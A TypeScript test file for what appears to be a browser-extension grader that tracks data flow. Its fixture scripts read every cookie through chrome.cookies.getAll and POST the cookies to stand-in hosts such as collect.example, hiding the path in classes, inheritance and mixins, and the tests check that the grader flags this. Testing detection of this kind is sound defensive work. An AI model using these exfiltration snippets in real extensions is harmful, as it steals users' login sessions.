import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * What an object holds, where its class stands in another file, under another name or above another class. Each: the file
 * that is imported, and what is done with it, `v` being the cookies that are read.
 */
const POST = "fetch('https://a.example/', { method: 'POST', body: JSON.stringify(sent) });";
const KINDS: readonly (readonly [name: string, other: string, own: string, sent: string])[] = [
  ['of a constructor', 'export class A { constructor(x) { this.x = x; } }', 'const a = new A(v);', 'a.x'],
  ['of a method', 'export class A { put(x) { this.x = x; } }', 'const a = new A(); a.put(v);', 'a.x'],
  ['the whole object', 'export class A { constructor(x) { this.x = x; } }', 'const a = new A(v);', 'a'],
  ['of a list in it', 'export class A { l = []; add(x) { this.l.push(x); } }', 'const a = new A(); a.add(v);', 'a.l'],
  ['put in from outside', 'export class A { get() { return this.x; } }', 'const a = new A(); a.x = v;', 'a.get()'],
  [
    'of the class above',
    'export class A { put(x) { this.x = x; } }',
    'class B extends A { get() { return this.x; } } const a = new B(); a.put(v);',
    'a.get()',
  ],
  [
    'of the class below',
    'export class A { get() { return this.x; } }',
    'class B extends A { put(x) { this.x = x; } } const a = new B(); a.put(v);',
    'a.get()',
  ],
  [
    'of a class in an object',
    'export class A {}',
    'const o = { B: class { constructor(x) { this.x = x; } } }; const a = new o.B(v);',
    'a.x',
  ],
];

const gradeOfModules = (background: string, files: Readonly<Record<string, string>>): Promise<string> =>
  graded({ background, manifest: { background: { service_worker: 'background.js', type: 'module' } }, files });
const background = (own: string, sent: string): string =>
  `import { A } from './a.js'; chrome.cookies.getAll({}, (v) => { ${own} const sent = ${sent}; ${POST} });`;
const gradeOf = (other: string, own: string, sent: string): Promise<string> =>
  gradeOfModules(background(own, sent), { 'a.js': other });

it.each(KINDS)('finds data in an object: %s', async (_, other, own, sent) => {
  expect(await gradeOf(other, own, sent)).toBe('F');
});

it('tells objects of two classes apart', async () => {
  const other = 'export class A { put(x) { this.x = x; } }; export class B { put(x) { this.x = x; } }';
  expect(await gradeOf(other, 'const a = new A(); a.put(v); const b = {}; b.x = 1;', 'b.x')).not.toBe('F');
  expect(
    await gradeOf(
      'export class A { put(x) { this.x = x; } }',
      'class B { x = 1; } const a = new A(); a.put(v); const b = new B();',
      'b.x',
    ),
  ).not.toBe('F');
});

const SEND = (what: string): string =>
  `fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(${what}) })`;
const GET = 'await chrome.cookies.getAll({})';

/* Further ways from one script's class to another's. */
const PROGRAMS: readonly (readonly [name: string, background: string, files: Readonly<Record<string, string>>])[] = [
  [
    'a class of a whole module',
    `import * as ns from './a.js'; (async () => { const a = new ns.A(); a.put(DATA); ${SEND('a.x')}; })();`,
    { 'a.js': 'export class A { put(v) { this.x = v; } }' },
  ],
  [
    'an instance that a third script reads',
    "import { A } from './a.js'; import { send } from './c.js'; (async () => { const a = new A(); a.put(DATA); send(a); })();",
    { 'a.js': 'export class A { put(v) { this.x = v; } }', 'c.js': `export const send = (a) => ${SEND('a.x')};` },
  ],
  [
    'a getter',
    `import { A } from './a.js'; (async () => { const a = new A(); a.v = DATA; ${SEND('a.text')}; })();`,
    { 'a.js': 'export class A { get text() { return JSON.stringify(this.v); } }' },
  ],
  [
    'a class below fills, one above sends',
    "import { Mid } from './b.js'; class Jar extends Mid { async collect() { this.data = DATA; } } const j = new Jar(); j.collect().then(() => j.send());",
    {
      'b.js': "import { Base } from './a.js'; export class Mid extends Base {}",
      'a.js': `export class Base { send() { ${SEND('this.data')}; } }`,
    },
  ],
  [
    'handed to the constructor above',
    "import { Base } from './a.js'; class Jar extends Base { constructor(c) { super({ jar: c }); } } (async () => new Jar(DATA).send())();",
    { 'a.js': `export class Base { constructor({ jar }) { this.c = jar; } send() { ${SEND('this.c')}; } }` },
  ],
  [
    'what a function made of a class',
    "import { sends } from './a.js'; class Jar extends sends(Object) { async collect() { this.data = DATA; } } const j = new Jar(); j.collect().then(() => j.send());",
    { 'a.js': `export const sends = (B) => class extends B { send() { ${SEND('this.data')}; } };` },
  ],
  [
    'a method that is lent to another object',
    `const acts = { put(all) { this.all = all; } }; const store = {}; for (const k of Object.keys(acts)) store[k] = (...given) => acts[k].apply(store, given); (async () => { store.put(DATA); ${SEND('store.all')}; })();`,
    {},
  ],
];

it.each(PROGRAMS)('%s', async (_, background, files) => {
  const grade = (data: string): Promise<string> => gradeOfModules(background.replace('DATA', data), files);
  expect(await grade(GET)).toBe('F');
  expect(await grade("'nothing'")).toMatch(/^A/);
});

it('does not give what one class holds to another that inherits from the same', async () => {
  const background = `import { Base } from './a.js';
    class Jar extends Base { async collect() { this.data = ${GET}; } }
    class Other extends Base { send() { ${SEND('this.data')}; } }
    new Jar().collect(); new Other().send();`;
  const files = { 'a.js': 'export class Base { stop() {} }' };
  expect(await gradeOfModules(background, files)).toMatch(/^A/);
});

it('finds what an object holds also where its class is used in many places', async () => {
  const files = { 'a.js': 'export class A { put(x) { this.x = x; } }' };
  const background = `import { A } from './a.js'; const a = new A(); ${'new A().put(1);'.repeat(60)}
    (async () => { a.put(${GET}); ${SEND('a.x')}; })();`;
  expect(await gradeOfModules(background, files)).toBe('F');
  const last = background.replace('const a = new A();', '').replace('(async', 'const a = new A(); (async');
  expect(await gradeOfModules(last, files)).toBe('F');
});
